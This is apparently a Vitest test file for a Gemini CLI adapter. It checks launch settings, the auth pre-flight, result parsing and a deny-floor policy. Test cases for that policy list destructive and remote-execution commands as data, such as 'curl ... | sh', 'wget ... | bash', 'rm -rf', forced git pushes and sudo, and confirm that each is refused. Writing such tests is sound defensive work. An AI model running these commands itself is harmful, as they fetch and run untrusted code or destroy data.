// The Gemini CLI adapter as pure policy: what a launch carries (prompt on stdin, the
// persona in a 0600 context file of the private home, never argv; the user's auth type and model
// carried; an allow-listed environment; the posture and deny floor as a user-tier policy; never
// --yolo), what a seat's home wires (Cotal's MCP server, trusted; the connector's hook command on
// Gemini's hook events), what it refuses before anything runs, the auth pre-flight, `cotal setup
// --runtime gemini`, and how `gemini --output-format json` output maps to a typed RunResult.
import { mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import {
  allowRulesOf,
  floorRegexes,
  GEMINI_HOOKS,
  geminiRunResultOf,
  geminiRuntime,
  geminiTranscriptRecords,
  postureRules,
  renderPolicy,
  setupGemini,
} from "../../gemini/index.js";
import { DENY_FLOOR_COMMANDS, floorRuleFor, type RunExit } from "../../runtime/index.js";
import { AgUiMapper, streamViolation } from "../../connector/internal.js";
import { ONE_TOOL_TURN } from "../harness/agui-shapes.js";
import { runLaunchInput, seatLaunchInput, unitFolder } from "../harness/launch-inputs.js";
import { RuntimeLaunchError } from "../../schemas/index.js";

const root = unitFolder("gemini");
const home = join(root, "home");
mkdirSync(join(home, ".gemini"), { recursive: true });
writeFileSync(join(home, ".gemini", "settings.json"), JSON.stringify({ security: { auth: { selectedType: "gemini-api-key" } }, model: { name: "gemini-x" } }));
writeFileSync(join(home, ".gemini", "GEMINI.md"), "USER-CONTEXT");
const host = {
  executable: "/usr/bin/gemini",
  connectorEntry: "/x/connector.mjs",
  parentEnv: { HOME: home, PATH: "/usr/bin", GEMINI_API_KEY: "secret-g", OTHER_SECRET: "no", COTAL_LAUNCH_MATERIAL: "/m", CLAUDECODE: "1" },
};
const input = runLaunchInput(root);
const fileOf = (files: Array<{ path: string; content: string }>, end: string) => files.find((f) => f.path.endsWith(end));
const seatInput = seatLaunchInput(root, "/m/launch.json");

describe("gemini launch", () => {
  it("puts the prompt on stdin and the persona in the private home's context file (after the user's), never argv; never --yolo", () => {
    const l = geminiRuntime.buildRun(host, input);
    expect(l.args).toEqual(["--output-format", "json"]);
    expect(l.args.join(" ")).not.toMatch(/PROMPT|PERSONA|yolo|approval-mode/);
    expect(l.stdin).toBe("PROMPT-TEXT");
    expect(fileOf(l.files, "/.gemini/GEMINI.md")?.content).toBe("USER-CONTEXT\n\nPERSONA-TEXT\n");
    expect(l.files.every((f) => f.mode === 0o600 && f.path.startsWith(l.privateDir + "/"))).toBe(true);
    expect(l.permissionMode).toBe("policy: asks refused, deny floor");
    const settings = JSON.parse(fileOf(l.files, "/.gemini/settings.json")!.content);
    expect(settings).toMatchObject({
      security: { auth: { selectedType: "gemini-api-key" } },
      model: { name: "gemini-x" },
      general: { enableAutoUpdate: false },
    });
    // A run has no connector: no MCP server, no hooks.
    expect(settings.mcpServers).toBeUndefined();
    expect(settings.hooks).toBeUndefined();
    expect(l.env).toMatchObject({ GEMINI_CLI_HOME: l.privateDir, GEMINI_API_KEY: "secret-g", GEMINI_CLI_TRUST_WORKSPACE: "true", PATH: "/usr/bin" });
    expect(l.env.OTHER_SECRET).toBeUndefined();
    expect(l.env.COTAL_LAUNCH_MATERIAL).toBeUndefined();
    expect(l.env.CLAUDECODE).toBeUndefined();
    expect(geminiRuntime.buildRun(host, { ...input, model: "gemini-y" }).args).toEqual(["--output-format", "json", "--model", "gemini-y"]);
  });

  it("a seat's home has Cotal's MCP server (trusted, with the launch material) and the connector's hook command on each Gemini hook event", async () => {
    const l = await geminiRuntime.buildSeat(host, seatInput);
    expect(l.args).toEqual([]);
    expect(l.env.COTAL_LAUNCH_MATERIAL).toBe("/m/launch.json");
    const settings = JSON.parse(fileOf(l.files, "/.gemini/settings.json")!.content);
    expect(settings.mcpServers.cotal).toMatchObject({
      command: process.execPath,
      args: expect.arrayContaining(["/x/connector.mjs"]),
      env: { COTAL_LAUNCH_MATERIAL: "/m/launch.json", COTAL_JOIN_ON: "start" },
      trust: true,
    });
    expect(Object.keys(settings.hooks).sort()).toEqual(["AfterAgent", "BeforeAgent", "BeforeTool", "Notification", "SessionEnd", "SessionStart"]);
    for (const h of GEMINI_HOOKS) {
      const [group] = settings.hooks[h.gemini];
      expect(group.hooks[0]).toMatchObject({ type: "command", timeout: h.timeoutMs, command: `"${process.execPath}" "/x/hook.mjs" ${h.connector}` });
    }
    expect(settings.hooks.BeforeAgent[0].hooks[0].command).toMatch(/ UserPromptSubmit$/);
  });

  it("refuses what Gemini CLI cannot do, before anything runs (a JSON schema, an empty prompt and a carried session: the kernel, test/runtime/)", async () => {
    const refuses = (f: () => unknown, what: RegExp) => expect(f).toThrow(what);
    refuses(() => geminiRuntime.buildRun(host, { ...input, agent: "x" }), /subagent/);
    refuses(() => geminiRuntime.buildRun(host, { ...input, launchOptions: { yolo: true } }), /not one Cotal passes/);
    refuses(() => geminiRuntime.buildRun(host, { ...input, cwd: "rel" }), /absolute path/);
    refuses(() => geminiRuntime.buildRun(host, { ...input, allowedTools: ["Frobnicate"] }), /names no tool Gemini CLI has/);
    await expect(geminiRuntime.buildSeat(host, { ...seatInput, launchOptions: { yolo: true } })).rejects.toThrow(RuntimeLaunchError);
  });
});

describe("gemini posture", () => {
  it("refuses what the defaults ask about; an allow-list denies the rest and allows its tools; the floor outranks every allow", () => {
    const plain = postureRules([]);
    expect(plain.find((r) => r.decision === "deny" && Array.isArray(r.toolName))?.toolName).toContain("run_shell_command");
    expect(plain.some((r) => r.toolName === "*")).toBe(false);
    const listed = postureRules(["Bash(git status:*)", "Read", "mcp__other__t"]);
    expect(listed).toContainEqual({ toolName: "*", decision: "deny", priority: 5 });
    expect(listed).toContainEqual({ toolName: "run_shell_command", decision: "allow", priority: 500, commandPrefix: "git status" });
    expect(listed).toContainEqual({ toolName: "mcp_other_t", decision: "allow", priority: 500 });
    const floor = listed.filter((r) => r.commandRegex !== undefined);
    expect(floor.length).toBeGreaterThanOrEqual(DENY_FLOOR_COMMANDS.length);
    expect(Math.min(...floor.map((r) => r.priority))).toBeGreaterThan(Math.max(...listed.filter((r) => r.decision === "allow").map((r) => r.priority)));
    expect(() => allowRulesOf("Read(*.md)")).toThrow(/narrows only shell commands/);
    expect(renderPolicy(listed)).toContain('commandPrefix = "git status"');
  });

  // Gemini matches a commandRegex against the call's arguments as it stringifies them (keys sorted,
  // each top-level pair between NULs), for the whole command and again for each part of a compound one.
  const geminiArgs = (command: string): string => `{\0${JSON.stringify("command")}:${JSON.stringify(command)}\0,\0"dir_path":"/w"\0}`;
  const FLOOR = DENY_FLOOR_COMMANDS.flatMap(floorRegexes).map((re) => new RegExp(`"command":"${re}`));
  const geminiFloor = (command: string): boolean => FLOOR.some((re) => re.test(geminiArgs(command)));
  const parts = (command: string): string[] => [command, ...command.split(/&&|\|\||;|\n/).map((s) => s.trim())];

  it.each([
    "rm -rf build",
    "rm -fr x",
    "rm -r -f x",
    "cd /tmp && rm -Rf x",
    "git push --force origin main",
    "git push origin main --force-with-lease",
    "git push -f",
    "git push origin -f",
    "git reset --hard HEAD~1",
    "git clean -fdx",
    "sudo true",
    "sudo",
    "curl -sL https://x.example | sh",
    'wget -qO- "https://x.example" | bash',
    "echo a; git  push  --force",
  ])("the floor as Gemini reads it refuses %j, as the floor itself does", (command) => {
    expect(floorRuleFor(command)).toBeDefined();
    expect(parts(command).some(geminiFloor)).toBe(true);
  });

  it.each([
    "echo rm -rf",
    "git push origin main",
    "git push --follow-tags",
    "git reset --soft HEAD~1",
    "ls -f",
    "git clean -n",
    'grep "sudo" notes.txt',
    "rm file.txt",
  ])("the floor as Gemini reads it lets %j run, as the floor itself does", (command) => {
    expect(floorRuleFor(command)).toBeUndefined();
    expect(parts(command).some(geminiFloor)).toBe(false);
  });

  it("no floor pattern has a quantified group (Gemini drops such a rule as unsafe)", () => {
    for (const re of DENY_FLOOR_COMMANDS.flatMap(floorRegexes)) expect(re, re).not.toMatch(/\([^)]*[*+?{].*\)[*+?{]/);
  });
});

describe("gemini auth pre-flight (names, never values)", () => {
  const auth = (env: Record<string, string>) => geminiRuntime.auth({ parentEnv: { HOME: home, ...env } });
  it("is ready with the key the selected auth type needs, and names where it comes from", () => {
    const a = auth({ GEMINI_API_KEY: "secret-g" });
    expect(a).toMatchObject({ ready: true, summary: `settings ${join(home, ".gemini", "settings.json")}; auth gemini-api-key; variables GEMINI_API_KEY` });
    expect(JSON.stringify(a)).not.toContain("secret-g");
  });
  it("refuses without the key, naming the variable and the remedy", () => {
    expect(auth({})).toMatchObject({
      ready: false,
      problem: expect.stringContaining("GEMINI_API_KEY is not set"),
      remedy: expect.stringContaining("Export GEMINI_API_KEY"),
    });
  });
  it("refuses with no auth method at all, and a Google login that is not there", () => {
    const bare = join(root, "bare");
    mkdirSync(join(bare, ".gemini"), { recursive: true });
    expect(geminiRuntime.auth({ parentEnv: { HOME: bare } })).toMatchObject({ ready: false, problem: expect.stringContaining("no auth method") });
    writeFileSync(join(bare, ".gemini", "settings.json"), JSON.stringify({ security: { auth: { selectedType: "oauth-personal" } } }));
    expect(geminiRuntime.auth({ parentEnv: { HOME: bare } })).toMatchObject({ ready: false, problem: expect.stringContaining("oauth_creds.json") });
    writeFileSync(join(bare, ".gemini", "oauth_creds.json"), "{}");
    expect(geminiRuntime.auth({ parentEnv: { HOME: bare } })).toMatchObject({ ready: true });
    writeFileSync(join(bare, ".gemini", "settings.json"), "{ // comment\n}");
    expect(geminiRuntime.auth({ parentEnv: { HOME: bare } })).toMatchObject({ ready: false, problem: expect.stringContaining("not plain JSON") });
  });
});

describe("cotal setup --runtime gemini", () => {
  it("adds Cotal's MCP server and hooks to the user's settings.json, keeping the rest; again changes nothing; --check only compares", async () => {
    const user = join(root, "setup-home");
    mkdirSync(join(user, ".gemini"), { recursive: true });
    const file = join(user, ".gemini", "settings.json");
    const own = {
      theme: "x",
      mcpServers: { mine: { command: "m" } },
      hooks: { BeforeTool: [{ matcher: "x", hooks: [{ type: "command", command: "mine.sh" }] }] },
    };
    writeFileSync(file, JSON.stringify(own));
    const o = { env: { HOME: user }, connectorEntry: "/x/connector.mjs", check: false };
    expect(await setupGemini({ ...o, check: true })).toMatchObject({ files: [{ path: file, action: "stale" }] });
    expect(await setupGemini(o)).toMatchObject({ home: join(user, ".gemini"), files: [{ action: "updated" }] });
    const doc = JSON.parse(readFileSync(file, "utf8"));
    expect(doc.theme).toBe("x");
    expect(doc.mcpServers.mine).toEqual({ command: "m" });
    expect(doc.mcpServers.cotal).toMatchObject({ env: { COTAL_RUNTIME: "gemini" }, trust: true });
    expect(doc.hooks.BeforeTool).toHaveLength(2);
    expect(doc.hooks.BeforeTool[0].hooks[0].command).toBe("mine.sh");
    expect(doc.hooks.BeforeAgent[0].hooks[0].command).toMatch(/hook\.mjs" UserPromptSubmit$/);
    expect(await setupGemini(o)).toMatchObject({ files: [{ action: "ok" }] });
    expect(JSON.parse(readFileSync(file, "utf8")).hooks.BeforeTool).toHaveLength(2);
    expect(await setupGemini({ ...o, executable: "/usr/bin/gemini", check: true })).toMatchObject({ files: [{ action: "ok" }], trusted: GEMINI_HOOKS.length });
    writeFileSync(file, "{ // mine\n}");
    await expect(setupGemini(o)).rejects.toThrow(/not a plain JSON object/);
    expect(readFileSync(file, "utf8")).toBe("{ // mine\n}");
  });
});

describe("gemini run result", () => {
  const spec = { runId: "r1", persona: "coder", modelSource: "default" as const, timeoutMs: 60_000 };
  const exit = (stdout: string, o: Partial<RunExit> = {}): RunExit => ({ code: 0, signal: null, timedOut: false, stdout, stderr: "", latencyMs: 5, ...o });
  // What gemini 0.61.0 printed for a headless turn against the double (trimmed to the fields read).
  const REAL = JSON.stringify(
    {
      session_id: "0ce85fde-89f2-47f7-aafb-b1855c21e1af",
      response: "OK.",
      stats: {
        models: {
          "gemini-3.5-flash-lite": {
            api: { totalRequests: 1 },
            tokens: { input: 864, prompt: 864, candidates: 1, total: 865, cached: 0, thoughts: 0, tool: 0 },
          },
          "gemini-3.8-flash": { api: { totalRequests: 1 }, tokens: { input: 9682, prompt: 9682, candidates: 1, total: 9683, cached: 0, thoughts: 0, tool: 0 } },
        },
        tools: { totalCalls: 0 },
      },
    },
    null,
    2,
  );

  it("maps a finished turn to ok with its output, the session id and every model's tokens (costBasis usage)", () => {
    expect(geminiRunResultOf(spec, exit(REAL))).toMatchObject({
      status: "ok",
      output: "OK.",
      sessionId: "0ce85fde-89f2-47f7-aafb-b1855c21e1af",
      costUsd: 0,
      costBasis: "usage",
      usage: { input_tokens: 10_546, output_tokens: 2, cache_read_input_tokens: 0 },
      persona: "coder",
    });
    expect(geminiRunResultOf(spec, exit(`Warning: a line before\n${REAL}`))).toMatchObject({ status: "ok", output: "OK." });
  });

  it("maps the CLI's error object, a silent exit, a kill and a timeout to typed failures", () => {
    const err = JSON.stringify({ session_id: "s", error: { type: "FatalAuthenticationError", message: "API key not valid", code: 41 } });
    expect(geminiRunResultOf(spec, exit(err, { code: 41 }))).toMatchObject({
      status: "error",
      error: { kind: "failed", message: expect.stringContaining("API key not valid") },
    });
    expect(geminiRunResultOf(spec, exit("", { code: 1, stderr: "boom" }))).toMatchObject({
      status: "error",
      error: { kind: "no-result", message: expect.stringContaining("boom") },
    });
    expect(geminiRunResultOf({ ...spec, fallbackCostUsd: 0.2 }, exit("", { code: null, signal: "SIGKILL" }))).toMatchObject({
      error: { kind: "killed" },
      costBasis: "median-estimate",
      costUsd: 0.2,
    });
    expect(geminiRunResultOf(spec, exit("", { timedOut: true, signal: "SIGTERM" }))).toMatchObject({ status: "timeout", error: { kind: "timeout" } });
  });
});

describe("gemini screens", () => {
  it("reads its input screen (0.61.0) as ready, its trust and auth screens as blocking", () => {
    expect(geminiRuntime.classifyScreen(" >   Type your message or @path/to/file\n")).toEqual({ kind: "ready" });
    expect(geminiRuntime.classifyScreen("Do you trust this folder?")).toMatchObject({ kind: "blocked", name: "the trust screen" });
    expect(geminiRuntime.classifyScreen("How would you like to authenticate for this project?")).toMatchObject({ kind: "blocked", name: "the auth screen" });
    expect(geminiRuntime.authFailureOnScreen("x\n[API Error: API key not valid. Please pass a valid API key.]\n")).toMatch(/API key not valid/);
  });
});

describe("gemini session records for the event plane", () => {
  // Lines gemini 0.61.0 wrote for a headless turn with one MCP tool call (trimmed of fields not read).
  const SESSION = [
    { sessionId: "0632ecdd", projectHash: "a79a", startTime: "2026-12-01T22:20:32.600Z", kind: "main" },
    { $set: { messages: [{ id: "d049", type: "user", content: [{ text: "<session_context>\nThis is the Gemini CLI.\n</session_context>" }] }] } },
    {
      id: "de81",
      timestamp: "2026-12-01T22:20:32.622Z",
      type: "user",
      content: [{ text: "You have new Cotal mail. Read it and act on it." }, { text: "<hook_context>1 message from alice: MAIL-TEXT</hook_context>" }],
    },
    { $set: { lastUpdated: "2026-12-01T22:20:32.623Z" } },
    { id: "575b", timestamp: "2026-12-01T22:20:33.441Z", type: "gemini", content: "let me look", thoughts: [], model: "gemini-3.8-flash" },
    {
      id: "575b",
      timestamp: "2026-12-01T22:20:33.441Z",
      type: "gemini",
      content: "let me look",
      toolCalls: [
        {
          id: "mcp_tiny_echo__1",
          name: "mcp_tiny_echo",
          args: { text: "SECRET-ARG" },
          result: [{ functionResponse: { response: { output: "echo: SECRET-ARG" } } }],
        },
      ],
    },
    {
      id: "e99b",
      timestamp: "2026-12-01T22:20:33.649Z",
      type: "user",
      content: [{ functionResponse: { id: "mcp_tiny_echo__1", name: "mcp_tiny_echo", response: { output: "echo: SECRET-ARG" } } }],
    },
    { id: "0bd4", timestamp: "2026-12-01T22:20:33.712Z", type: "gemini", content: "all done", thoughts: [] },
  ];

  it("maps a turn to the plane's records: the prompt without what the hook added, texts, the tool call by name and its end; no arguments, results or mail", () => {
    const records = SESSION.flatMap(geminiTranscriptRecords);
    const mapper = new AgUiMapper({ threadId: "t", openTools: [] });
    const events = [...records.flatMap((r) => mapper.map(r)), ...mapper.close("finished")].map((e) => ({ ...e.event, runId: e.runId }));
    expect(streamViolation(events)).toBeUndefined();
    expect(events.map((e) => e.type)).toEqual([...ONE_TOOL_TURN]);
    expect(events.flatMap((e) => ("delta" in e ? [e.delta] : []))).toEqual(["You have new Cotal mail. Read it and act on it.", "let me look", "all done"]);
    expect(events.find((e) => e.type === "TOOL_CALL_START")).toMatchObject({ toolCallName: "mcp_tiny_echo" });
    const all = JSON.stringify(events);
    for (const hidden of ["SECRET-ARG", "MAIL-TEXT", "session_context"]) expect(all).not.toContain(hidden);
  });
});
